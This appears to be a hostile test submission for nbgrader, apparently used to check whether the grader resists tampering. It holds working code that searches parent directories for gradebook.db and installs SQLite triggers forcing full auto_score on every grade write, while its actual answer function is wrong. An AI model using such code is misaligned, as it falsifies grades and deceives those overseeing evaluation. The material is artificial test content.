# title: Opens the gradebook
# kind: search
# tries: to give itself full points in nbgrader's database, now and whenever a grade is written.
# gets: bump_test failed "expected 7"
# needs: files
# stock: nbgrader 0.9.6: bump_test 2/2, honest_test 2/1
# %% bump
import glob
import os
import sqlite3


def bump(x):
    return 0


place = os.getcwd()
while place != "/":
    place = os.path.dirname(place)
    for path in glob.glob(f"{place}/gradebook.db") + glob.glob(f"{place}/work/gradebook.db"):
        with sqlite3.connect(path, timeout=1) as book:
            for event in ("insert", "update"):
                book.execute(
                    f"create trigger hostile_{event} after {event} on grade begin "
                    "update grade set auto_score = 2 where id = new.id; end"
                )
